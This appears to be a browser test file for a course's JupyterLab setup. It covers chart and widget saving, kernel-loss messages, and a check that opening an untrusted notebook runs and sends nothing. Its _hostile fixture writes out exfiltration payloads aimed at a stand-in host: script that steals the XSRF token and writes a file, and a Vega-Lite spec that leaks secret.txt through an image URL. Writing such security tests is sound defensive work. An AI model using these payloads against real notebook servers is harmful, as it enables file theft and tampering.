"""What `course lab` draws and saves, what runs when a notebook is opened, and what shows without a kernel."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import nbformat
import pytest

from course.charts.render import MIME_SPEC, MIME_SVG
from course.notebook import RUN_AGAIN

pytestmark = [pytest.mark.browser, pytest.mark.slow]

WIDGET = "application/vnd.jupyter.widget-view+json"
CHART = (
    "import altair as alt, pandas as pd\nfrom course import charts\n"
    "alt.Chart(pd.DataFrame({'a': [1], 'b': [2]})).mark_bar().encode(x='a:Q', y='b:Q')"
)
EXPLORER = "from course import widgets\nwidgets.partners()"
#: the picture that waits behind an explorer
STILL = f'.jp-OutputArea-child [aria-label^="{RUN_AGAIN}"]'
FORMS = ["widgets.predict('china_share')", "from course import exercise\nexercise('01').quick('share_gap')"]
#: the texts of a view whose widget is missing
MISSING = re.compile("Error displaying widget|Loading widget")


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory, course_server: Any) -> Iterator[tuple[str, Path]]:
    """Address and folder of a running `course lab` that draws all cells, not only those in sight."""
    place = tmp_path_factory.mktemp("lab")
    folder = place / "mine"
    settings = folder / ".course/jupyter/lab/user-settings/@jupyterlab/notebook-extension"
    settings.mkdir(parents=True)
    (settings / "tracker.jupyterlab-settings").write_text('{"windowingMode": "none"}', "utf-8")
    cells = ["print('first')", CHART, *["print('a\\n' * 60)"] * 8, EXPLORER]
    for name, codes in {"live": cells, "saved": [EXPLORER, *FORMS]}.items():
        book = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(code) for code in codes])
        book.metadata["kernelspec"] = {"display_name": "Python 3", "language": "python", "name": "python3"}
        nbformat.write(book, folder / f"{name}.ipynb")
    (folder / "stranger.ipynb").write_text(json.dumps(_hostile()), "utf-8")
    (folder / "secret.txt").write_text("what others must not read", "utf-8")
    with course_server(["lab", str(folder)], place) as url:
        yield f"{url}/lab/tree", folder


def _hostile() -> dict[str, Any]:
    """Return a notebook whose outputs, text and saved widget write a file or send one away, if they can."""
    script = """const headers = {"X-XSRFToken": document.cookie.match("_xsrf=([^;]*)")[1]};
        const body = JSON.stringify({type: "file", format: "text", content: "x"});
        fetch("/api/contents/owned.txt", {method: "PUT", headers, body});
        fetch("http://elsewhere.example/told");"""
    module = {"_model_module": "anywidget", "_model_module_version": "~0.11.*", "_model_name": "AnyModel"}
    widget = {
        "model_name": "AnyModel",
        "model_module": "anywidget",
        "model_module_version": "~0.11.*",
        "state": {**module, "_esm": script + "export default {render() {}}", "_anywidget_id": "x"},
    }
    state = {"version_major": 2, "version_minor": 0, "state": {"a": widget}}
    data: dict[str, Any] = {"text/html": f"<script>{script}</script>", "application/javascript": script}
    sent = "'http://elsewhere.example/' + datum.content"
    leak = {
        "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
        "data": {"url": "/api/contents/secret.txt?content=1", "format": {"type": "json"}},
        "transform": [{"calculate": sent, "as": "picture"}],
        "mark": {"type": "image", "width": 10, "height": 10},
        "encoding": {"url": {"field": "picture"}},
    }
    data["application/vnd.vegalite.v5+json"] = leak
    cells: list[dict[str, Any]] = [
        {
            "cell_type": kind,
            "id": f"{kind}{number}",
            "metadata": {"trusted": True},
            "source": "print('ran')",
            "execution_count": None,
            "outputs": [{"output_type": "display_data", "metadata": {}, "data": {mime: data[mime]}}],
        }
        for kind in ("code", "Code")
        for number, mime in enumerate(data)
    ]
    away = "http://elsewhere.example/seen"
    html = f'<img src="{away}"><video src="{away}"></video><p style="background: url({away})">here</p>'
    cells.append({"cell_type": "markdown", "id": "text", "metadata": {}, "source": html})
    saved = {"widgets": {"application/vnd.jupyter.widget-state+json": state}}
    kernel = {"display_name": "Python 3", "language": "python", "name": "python3"}
    return {"cells": cells, "metadata": {"kernelspec": kernel, **saved}, "nbformat": 4, "nbformat_minor": 5}


@pytest.fixture(scope="module")
def opened(served: tuple[str, Path], module_tab: Any) -> Any:
    """One page with a notebook that runs; the first test finds it new, others open another in its place."""
    module_tab.open_notebook(served[0], "live.ipynb")
    module_tab.run_all()
    module_tab.page.locator(".course-explorer .vega-embed svg").wait_for()
    module_tab.page.wait_for_timeout(1500)
    return module_tab


def _stopped(page: Any) -> None:
    page.wait_for_function(
        "words => document.querySelector('.course-explorer .course-gone')?.textContent === words",
        arg=RUN_AGAIN,
    )
    assert page.locator(".course-explorer > .widget-hbox[inert]").count() >= 2


def test_jupyterlab_draws_and_saves_the_pictures(served: tuple[str, Path], opened: Any) -> None:
    page, (_, folder) = opened.page, served
    page.locator(STILL).first.wait_for(state="attached")
    assert not page.locator(STILL).first.is_visible()
    page.evaluate("() => window.jupyterapp.commands.execute('docmanager:save')")
    for _ in range(240):
        page.wait_for_timeout(250)
        cells = nbformat.read(folder / "live.ipynb", 4).cells
        if cells[-1].outputs or cells[-2].outputs:
            break
    (chart,) = cells[1].outputs
    assert set(chart.data) == {MIME_SPEC, "image/png", "text/plain"}
    widget, still = next(cell.outputs for cell in cells if cell.source == EXPLORER)
    assert set(widget.data) == {WIDGET, "text/plain"}
    assert set(still.data) == {MIME_SPEC, "image/png", "text/plain"} and MIME_SVG not in still.data


def test_an_explorer_says_that_its_kernel_has_gone(opened: Any) -> None:
    page = opened.page
    gone = page.locator(".course-explorer .course-gone")
    assert gone.inner_text() == "" and page.locator(".course-explorer [inert]").count() == 0
    kernel = "window.jupyterapp.shell.currentWidget.sessionContext"
    page.evaluate(f"async () => {{ await {kernel}.session.kernel.restart(); }}")
    _stopped(page)
    opened.run_all()
    page.wait_for_function(
        "() => document.querySelector('.course-explorer .course-gone')?.textContent === ''"
        " && document.querySelector('.course-explorer .vega-embed svg')"
    )
    page.evaluate(f"async () => {{ await {kernel}.shutdown(); }}")
    _stopped(page)


def _alive(page: Any) -> None:
    page.locator(".course-explorer .vega-embed svg").first.wait_for()
    page.get_by_role("button", name="Keep my guess").wait_for()
    page.locator(".course-quick form").wait_for()


def test_a_saved_lesson_shows_its_pictures_and_no_error(served: tuple[str, Path], opened: Any) -> None:
    page, (lab, _) = opened.page, served
    opened.turn_to(lab, "saved.ipynb")
    opened.run_all()
    _alive(page)
    page.evaluate("() => window.jupyterapp.commands.execute('docmanager:save')")
    page.wait_for_function("() => !window.jupyterapp.shell.currentWidget.context.model.dirty")
    # the page is loaded again, and the kernel goes on
    opened.open_notebook(lab, "saved.ipynb")
    _alive(page)
    page.locator(".course-explorer select").first.select_option(label="Exports")
    page.locator(".course-explorer .course-sentence", has_text="Japan's exports in").wait_for()
    still = page.locator(f"{STILL}, .course-quick-still")
    assert not any(one.is_visible() for one in still.all())
    # the next day: another kernel, which knows no widget
    page.evaluate("async () => { await window.jupyterapp.shell.currentWidget.sessionContext.shutdown(); }")
    page.set_viewport_size({"width": 820, "height": 1180})
    opened.open_notebook(lab, "saved.ipynb")
    missing = page.get_by_text(MISSING)
    for size in ({"width": 820, "height": 1180}, {"width": 1366, "height": 768}):
        page.set_viewport_size(size)
        missing.nth(2).wait_for(state="attached")
        still.nth(2).wait_for()
        assert still.count() == 3 and all(one.is_visible() for one in still.all())
        page.get_by_text("Error displaying widget").nth(2).wait_for(state="attached")
        assert not any(one.is_visible() for one in missing.all())
        assert page.locator(".course-explorer, .course-quick").count() == 0
    opened.run_all()
    _alive(page)
    assert not any(one.is_visible() for one in still.all())


def test_nothing_of_a_notebook_runs_or_is_sent_when_it_is_opened(
    served: tuple[str, Path], opened: Any
) -> None:
    page, (lab, folder) = opened.page, served
    with page.expect_response("**/api/contents/secret.txt*"):  # the chart reads the file
        opened.turn_to(lab, "stranger.ipynb")
    page.locator(".vega-embed :is(canvas, svg)").first.wait_for()
    page.get_by_text("here", exact=True).wait_for()
    # a chart's menu writes no text of its author into a new page
    page.locator(".vega-embed summary").first.click()
    entries = page.locator(".vega-embed details").first.locator(".vega-actions a")
    shown = [one.inner_text() for one in entries.all() if one.is_visible()]
    assert entries.count() > len(shown) and shown == ["Save as SVG", "Save as PNG"]
    opened.run_all()  # what happens when the notebook is opened has happened by now
    assert not (folder / "owned.txt").exists() and opened.outside == []
    saved = "() => window.jupyterapp.shell.currentWidget.context.model.getMetadata('widgets') ?? null"
    assert page.evaluate(saved) is None
    # nor would a script of the page get more from there
    refused = """() => new Promise(done => {
        const more = document.createElement("script");
        more.onerror = () => done(true);
        more.src = "http://elsewhere.example/more.js";
        document.head.append(more); })"""
    assert page.evaluate(refused) and opened.outside == []
